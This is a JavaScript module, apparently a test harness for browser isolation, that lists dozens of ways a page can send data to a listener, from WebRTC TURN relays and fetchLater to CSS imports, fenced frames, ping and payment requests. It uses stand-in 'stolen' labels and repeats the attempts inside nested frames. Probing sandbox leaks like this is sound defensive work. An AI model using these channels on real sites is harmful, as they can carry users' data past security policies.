// All known ways by which data can leave a page. None reports its success; only the listeners know.

/** Takes all of WebRTC's ways to a server: asking it for one's own address (STUN), and to be relayed (TURN). */
async function callPeer(Peer, { udp, tcp }, who) {
  const relay = { username: `stolen-${who}`, credential: 'x' }
  const peer = new Peer({
    iceServers: [
      { urls: `stun:${udp}` },
      { urls: `turn:${udp}?transport=udp`, ...relay },
      { urls: `turn:${tcp}?transport=tcp`, ...relay },
    ],
  })
  peer.createDataChannel('x')
  await peer.setLocalDescription(await peer.createOffer())
}

/** Connects to addresses of a made-up peer, as if it had answered. */
async function callCandidate(Peer, { udp, tcp }) {
  const [one, other] = [new Peer(), new Peer()]
  one.createDataChannel('x')
  await one.setLocalDescription(await one.createOffer())
  await other.setRemoteDescription(one.localDescription)
  await other.setLocalDescription(await other.createAnswer())
  await one.setRemoteDescription(other.localDescription)
  const lineOf = (address, kind) => `candidate:1 1 ${kind} 2122260223 ${address.replace(':', ' ')} typ host`
  for (const candidate of [lineOf(udp, 'udp'), `${lineOf(tcp, 'tcp')} tcptype passive`]) {
    await one.addIceCandidate({ candidate, sdpMid: '0' })
  }
}

const add = (name, properties, place = document.head) => {
  const element = document.createElement(name)
  for (const [key, value] of Object.entries(properties)) {
    if (key in element) element[key] = value
    else element.setAttribute(key, value)
  }
  place.append(element)
  return element
}
const link = (rel, href, more = {}) => add('link', { rel, href, ...more })
const inBody = (name, properties) => add(name, properties, document.body)
const frame = (properties) => inBody('iframe', properties)
const script = (type, value) => add('script', { type, textContent: JSON.stringify(value) })

/** A document inside the frame that runs this file. */
const nested = (listeners, more) => {
  const told = `data-listeners='${JSON.stringify(listeners)}'`
  return frame({ srcdoc: `<body ${told}><script type="module" src="${import.meta.url}"></script>`, ...more })
}

/** Name → what to do. `to(name)` is an address of the listener for HTTP. */
export const waysOut = (listeners, to) => ({
  webrtc: () => callPeer(RTCPeerConnection, listeners, 'own'),
  'webrtc-prefixed': () => callPeer(self.webkitRTCPeerConnection, listeners, 'prefixed'),
  'webrtc-candidate': () => callCandidate(RTCPeerConnection, listeners),
  'webrtc-empty-frame': () => callPeer(frame({}).contentWindow.RTCPeerConnection, listeners, 'empty'),
  'web-transport': () => new WebTransport(`https://${listeners.udp}/`).ready,
  'event-source': () => new EventSource(to('event-source')),
  'web-socket-stream': () => new WebSocketStream(to('stream').replace('http', 'ws')).opened,
  xhr: () => {
    const request = new XMLHttpRequest()
    request.open('POST', to('xhr'))
    request.send('x')
  },
  'fetch-later': () => fetchLater(to('fetch-later'), { activateAfter: 0 }),
  'fetch-keepalive': () => fetch(to('keepalive'), { keepalive: true, mode: 'no-cors', method: 'POST' }),
  'private-state-token': () =>
    fetch(to('token'), { mode: 'no-cors', privateToken: { version: 1, operation: 'token-request' } }),
  prefetch: () => link('prefetch', to('prefetch')),
  preconnect: () => link('preconnect', to('preconnect')),
  'dns-prefetch': () => link('dns-prefetch', 'http://stolen.localhost'),
  preload: () => link('preload', to('preload'), { as: 'image' }),
  'module-preload': () => link('modulepreload', to('module-preload')),
  prerender: () => link('prerender', to('prerender')),
  stylesheet: () => link('stylesheet', to('stylesheet')),
  icon: () => link('icon', to('icon')),
  manifest: () => link('manifest', to('manifest')),
  'css-import': () => add('style', { textContent: `@import url("${to('css-import')}");` }),
  'css-url': () => add('style', { textContent: `body { background: url("${to('css-url')}") }` }),
  'css-font': () =>
    add('style', { textContent: `@font-face { font-family: s; src: url("${to('font')}") } body { font-family: s }` }),
  'font-face': () => new FontFace('x', `url(${to('font-face')})`).load(),
  'speculation-rules': () =>
    script('speculationrules', { prerender: [{ urls: [to('rules')], eagerness: 'immediate' }] }),
  'speculation-prefetch': () =>
    script('speculationrules', { prefetch: [{ urls: [to('rules')], eagerness: 'immediate' }] }),
  'import-map': async () => {
    const mapped = 'out'
    script('importmap', { imports: { [mapped]: to('import-map') } })
    await import(mapped)
  },
  'dynamic-import': () => import(to('import')),
  'shared-worker': () => new SharedWorker(to('shared-worker')),
  'module-worker': () => new Worker(to('worker'), { type: 'module' }),
  'own-worker': () => new Worker(new URL('ways-out.js', import.meta.url), { type: 'module' }),
  'service-worker': () => navigator.serviceWorker.register('ways-out.js'),
  worklet: () => CSS.paintWorklet.addModule(to('worklet')),
  frame: () => frame({ src: to('frame') }),
  'credentialless-frame': () => frame({ src: to('credentialless'), credentialless: true }),
  'fenced-frame': () => inBody('fencedframe', { config: new FencedFrameConfig(to('fenced')) }),
  object: () => inBody('object', { data: to('object') }),
  embed: () => inBody('embed', { src: to('embed') }),
  video: () => inBody('video', { src: to('video'), poster: to('poster'), autoplay: true }),
  audio: () => inBody('audio', { src: to('audio'), autoplay: true }),
  'svg-image': () => {
    inBody('div', { innerHTML: `<svg><image href="${to('svg')}"/><use href="${to('use')}#a"/></svg>` })
  },
  'attribution-source': () => inBody('img', { attributionsrc: to('attribution') }),
  'meta-policy': () =>
    add('meta', { httpEquiv: 'content-security-policy', content: `img-src 'none'; report-uri ${to('report')}` }),
  ping: () => inBody('a', { href: '#x', ping: to('ping') }).click(),
  'blank-link': () => inBody('a', { href: to('blank'), target: '_blank' }).click(),
  'form-self': () => inBody('form', { action: to('form-self'), method: 'GET' }).submit(),
  payment: () =>
    new PaymentRequest([{ supportedMethods: to('payment') }], {
      total: { label: 'x', amount: { currency: 'EUR', value: '1' } },
    }).show(),
  'federated-sign-in': () =>
    navigator.credentials.get({ identity: { providers: [{ configURL: to('fedcm.json'), clientId: 'x' }] } }),
  'protocol-handler': () => navigator.registerProtocolHandler('web+x', `${to('protocol')}?%s`),
})

/** Takes the same ways in documents inside the frame, each of which has all interfaces anew. */
export const nestedWays = (listeners) => ({
  document: () => nested(listeners, {}),
  credentialless: () => nested(listeners, { credentialless: true }),
})

/** Ways by which the frame itself can navigate. */
export const waysAway = (to) => ({
  location: () => {
    location.href = to('location')
  },
  refresh: () => add('meta', { httpEquiv: 'refresh', content: `0;url=${to('refresh')}` }),
  open: () => open(to('open'), '_self'),
  download: () => inBody('a', { href: to('download'), download: 'x' }).click(),
})

// Takes one way, if a nested document has loaded this file.
const listeners = globalThis.document?.body?.dataset.listeners
if (listeners) callPeer(RTCPeerConnection, JSON.parse(listeners), 'nested').catch(() => {})
